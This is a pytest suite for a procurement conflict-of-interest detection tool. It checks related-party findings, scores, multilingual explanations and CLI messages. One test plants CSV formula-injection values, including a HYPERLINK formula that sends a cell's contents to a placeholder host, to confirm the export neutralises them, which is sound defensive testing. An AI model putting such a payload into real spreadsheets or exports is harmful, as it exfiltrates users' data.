"""Detection on the hand-checked scenario bundle and the demo: exact findings, rules, explanations."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from cofi.resources import resource_dir
from tests.conftest import DEMO, write_bundle

SCENARIOS = resource_dir("fixtures") / "scenarios"


def expected() -> set[tuple[str, str, str, str, int]]:
    with (SCENARIOS / "expected.csv").open(encoding="utf-8") as fh:
        return {
            (r["contract_id"], r["decision_maker_id"], r["winner_id"], r["pattern"], int(r["hops"]))
            for r in csv.DictReader(fh)
        }


def jsonl(result: Result) -> list[dict[str, Any]]:
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines() if line.strip()]


def keys(findings: list[dict[str, Any]]) -> set[tuple[str, str, str, str, int]]:
    return {
        (f["contract_id"], f["decision_maker_id"], f["winner_id"], f["pattern"], f["hops"])
        for f in findings
    }


@pytest.fixture
def scenarios(crun: Callable[..., Result]) -> Callable[..., Result]:
    """The scenario bundle loaded into each store in turn (these tests are conformance tests)."""
    assert crun("load", str(SCENARIOS)).exit_code == 0
    return crun


def test_sweep_finds_exactly_the_expected_findings(scenarios: Callable[..., Result]) -> None:
    assert keys(jsonl(scenarios("sweep", "--format", "jsonl"))) == expected()


def test_check_gives_each_contract_the_same_findings_as_the_sweep(
    scenarios: Callable[..., Result],
) -> None:
    want = expected()
    for n in range(1, 25):
        contract = f"S{n:02d}"
        got = keys(jsonl(scenarios("check", contract, "--format", "jsonl")))
        assert got == {k for k in want if k[0] == contract}, contract


@pytest.mark.parametrize(
    ("contract", "option", "value", "finding"),
    [
        ("S14", "--max-hops", "5", ("p-s14", "co-s14", "FAMILY", 5)),
        ("S15", "--max-family", "3", ("p-s15", "co-s15", "FAMILY", 4)),
        ("S16", "--hub-limit", "30", ("p-s16", "co-s16", "SHARED_ADDRESS", 2)),
        ("S21", "--hub-limit", "30", ("p-s21", "co-s21", "SHARED_ADDRESS", 2)),
        ("S10", "--lookback-days", "2000", ("p-s10", "co-s10", "REVOLVING_DOOR", 1)),
    ],
)
def test_a_near_miss_is_found_once_its_rule_is_relaxed(
    scenarios: Callable[..., Result],
    contract: str,
    option: str,
    value: str,
    finding: tuple[str, str, str, int],
) -> None:
    assert jsonl(scenarios("check", contract, "--format", "jsonl")) == [] or contract == "S21"
    got = keys(jsonl(scenarios("check", contract, option, value, "--format", "jsonl")))
    assert got == {(contract, *finding)}


def test_tighter_rules_drop_findings(scenarios: Callable[..., Result]) -> None:
    got = keys(jsonl(scenarios("sweep", "--all", "--max-hops", "1", "--format", "jsonl")))
    assert got == {k for k in expected() if k[4] == 1}
    got = keys(jsonl(scenarios("sweep", "--all", "--max-family", "0", "--format", "jsonl")))
    assert got == {k for k in expected() if k[3] != "FAMILY"}
    # S02's job ended 2025-01-31 and S03's stake 2025-03-31: a 30-day lookback drops both
    got = keys(jsonl(scenarios("sweep", "--all", "--lookback-days", "30", "--format", "jsonl")))
    assert got == {k for k in expected() if k[0] not in ("S02", "S03")}


def test_finding_fields_path_and_id(scenarios: Callable[..., Result]) -> None:
    (f,) = jsonl(scenarios("check", "S08", "--format", "jsonl"))
    assert f["decision_role"] == "head"
    assert f["signed_on"] == "2025-06-01" and f["value"] == 12_000_000
    assert [p.get("id") for p in f["path"][::2]] == ["p-head-a", "p-head-a-son", "co-s08"]
    assert [p["type"] for p in f["path"][1::2]] == ["FAMILY", "DIRECTS"]
    assert f["path"][1]["role"] == "child"
    assert 0 <= f["score"] <= 1 and f["severity"] in ("high", "medium", "low")
    again = jsonl(scenarios("check", "S08", "--format", "jsonl"))[0]
    assert again["finding_id"] == f["finding_id"] and f["finding_id"].startswith("F-")
    # merged records: the ids are the ones the contract names, not the other record's
    (m,) = jsonl(scenarios("check", "S23", "--format", "jsonl"))
    assert m["decision_maker_id"] == "p-s23" and m["path"][0]["id"] == "p-s23"


def test_score_rises_for_shorter_paths_closer_kin_larger_shares_and_values(
    run: Callable[..., Result], tmp_path: Path
) -> None:
    people = [{"id": f"p{i}", "name": f"Person {i}"} for i in range(12)]
    companies = [{"id": f"c{i}", "name": f"Company {i}"} for i in range(8)]
    contracts, links = [], []

    def case(n: int, value: str, chain: list[dict[str, Any]]) -> None:
        contracts.append({"id": f"K{n}", "buyer_id": "ag", "supplier_id": f"c{n}",
                          "signed_on": "2025-01-01", "value": value})  # fmt: skip
        links.append({"source": f"p{n}", "target": f"K{n}", "type": "DECIDED"})
        links.extend(chain)

    own = {"type": "OWNS", "share": "100"}
    case(0, "1000000", [{"source": "p0", "target": "c0", **own}])  # 1 hop
    case(1, "1000000", [{"source": "p1", "target": "p11", "type": "FAMILY", "role": "spouse"},
                        {"source": "p11", "target": "c1", **own}])  # fmt: skip
    case(2, "1000000", [{"source": "p2", "target": "p10", "type": "FAMILY", "role": "other"},
                        {"source": "p10", "target": "c2", **own}])  # fmt: skip
    case(3, "1000000", [{"source": "p3", "target": "c3", "type": "OWNS", "share": "5"}])
    case(4, "900000000", [{"source": "p4", "target": "c4", **own}])
    write_bundle(tmp_path / "b", {"person": people, "company": companies, "contract": contracts,
                                  "agency": [{"id": "ag", "name": "Agency"}], "link": links})  # fmt: skip
    assert run("load", str(tmp_path / "b")).exit_code == 0
    score = {f["contract_id"]: f["score"] for f in jsonl(run("sweep", "--format", "jsonl"))}
    assert score["K0"] > score["K1"]  # shorter
    assert score["K1"] > score["K2"]  # closer kin
    assert score["K0"] > score["K3"]  # larger share
    assert score["K4"] > score["K0"]  # larger contract


def test_explanation_reads_aloud(run: Callable[..., Result]) -> None:
    assert run("load", str(DEMO)).exit_code == 0
    found = {f["contract_id"]: f for f in jsonl(run("sweep", "--format", "jsonl"))}
    k17 = found["K-17"]["explanation"]
    assert k17.startswith("Commission member Әйгерім Садықова's spouse Нұрлан Садықов owns 60% of")
    assert "ТОО «Дала Строй»" in k17 and "won contract K-17 (12,400,000 KZT)" in k17
    k21 = found["K-21"]["explanation"]
    assert "'s daughter Дана Жұмабаева directs ТОО «Steppe Holding»" in k21
    assert "which owns 70% of ТОО «Алтын Жол»" in k21
    k40 = found["K-40"]["explanation"]
    assert "directed ТОО «Astana Build» from 2019-01-01 until 2024-11-30" in k40


def test_two_family_edges_read_as_one_kinship_word(
    run: Callable[..., Result], tmp_path: Path
) -> None:
    people = [{"id": "p-d", "name": "Айгерим Садыкова"}, {"id": "p-h", "name": "Нурлан Садыков"},
              {"id": "p-b", "name": "Ерлан Садыков"}]  # fmt: skip
    links = [
        {"source": "p-d", "target": "p-h", "type": "FAMILY", "role": "spouse"},
        {"source": "p-b", "target": "p-h", "type": "FAMILY", "role": "sibling"},
        {"source": "p-b", "target": "c", "type": "DIRECTS", "role": "director"},
        {"source": "p-d", "target": "K", "type": "DECIDED", "role": "chair"},
    ]
    write_bundle(tmp_path / "b", {"person": people, "company": [{"id": "c", "name": "Dala"}],
                                  "agency": [{"id": "ag", "name": "Agency"}],
                                  "contract": [{"id": "K", "buyer_id": "ag", "supplier_id": "c",
                                                "signed_on": "2025-01-01"}],
                                  "link": links})  # fmt: skip
    assert run("load", str(tmp_path / "b")).exit_code == 0
    (f,) = jsonl(run("check", "K", "--format", "jsonl"))
    assert f["explanation"] == (
        "Chair Айгерим Садыкова's brother-in-law Ерлан Садыков (spouse Нурлан Садыков's brother) "
        "directs Dala, which won contract K signed on 2025-01-01"
    )


def test_csv_output_cannot_run_formulas(run: Callable[..., Result], tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    write_bundle(tmp_path / "b", {
        "person": [{"id": "p", "name": "@SUM(1+1)"}],
        "company": [{"id": "c", "name": evil}],
        "agency": [{"id": "ag", "name": "Agency"}],
        "contract": [{"id": "-K", "buyer_id": "ag", "supplier_id": "c", "signed_on": "2025-01-01"}],
        "link": [{"source": "p", "target": "c", "type": "OWNS"},
                 {"source": "p", "target": "-K", "type": "DECIDED", "role": "+chair"}],
    })  # fmt: skip
    assert run("load", str(tmp_path / "b")).exit_code == 0
    result = run("sweep", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 1
    for cell in rows[0].values():
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert rows[0]["contract_id"] == "'-K" and rows[0]["decision_role"] == "'+chair"
    assert rows[0]["explanation"].startswith("'+chair @SUM(1+1) holds a stake in =HYPERLINK")


def test_text_output_and_commands(scenarios: Callable[..., Result]) -> None:
    result = scenarios("check", "S07")
    assert result.exit_code == 0
    assert "OWNERSHIP_CHAIN" in result.stdout and "owns 51% of ТОО «Qazaq Asphalt»" in result.stdout
    result = scenarios("check", "S10")
    assert result.exit_code == 0 and "no related-party path for contract S10" in result.stderr
    result = scenarios("check", "NOPE")
    assert result.exit_code == 1 and "no contract 'NOPE'" in result.stderr
    # an id of another kind: said what it is, and where to look instead
    for record, said in (
        ("p-s07", "'p-s07' is a person, not a contract: use `cofi links p-s07`"),
        ("co-s07", "'co-s07' is a company, not a contract: use `cofi links co-s07`"),
        ("ag-a", "'ag-a' is an agency, not a contract"),
    ):
        result = scenarios("check", record)
        assert result.exit_code == 1
        assert result.stderr.strip().splitlines() == [f"cofi: error: {said}"]


def test_path_ignores_dates_unless_at_is_given(scenarios: Callable[..., Result]) -> None:
    result = scenarios("path", "p-s10", "co-s10", "--json")
    (line,) = jsonl(result)
    assert line["hops"] == 1 and line["path"][1]["until"] == "2019-12-31"
    result = scenarios("path", "p-s10", "co-s10", "--at", "2025-06-01")
    assert result.exit_code == 1 and "no related-party path" in result.stderr
    # S22: both the expired 1-hop stake and the son's valid one, shortest first
    lines = jsonl(scenarios("path", "p-s22", "co-s22", "--json"))
    assert [p["hops"] for p in lines] == [1, 2]
    assert [p["hops"] for p in jsonl(scenarios("path", "p-s22", "co-s22", "--json",
                                               "--at", "2025-06-01"))] == [2]  # fmt: skip
    result = scenarios("path", "p-s13", "ag-b")
    assert result.exit_code == 1 and "an agency is never on a related-party path" in result.stderr
    result = scenarios("path", "p-s13", "--at", "x", "co-s13")
    assert result.exit_code == 2


def test_links_lists_reachable_winners(scenarios: Callable[..., Result]) -> None:
    lines = jsonl(scenarios("links", "p-s20", "--json"))
    assert [(x["winner_id"], x["hops"], x["contracts"]) for x in lines] == [("co-s20", 4, ["S20"])]
    lines = jsonl(scenarios("links", "p-s07", "--json"))
    assert [(x["winner_id"], x["hops"]) for x in lines] == [("co-s07", 2)]
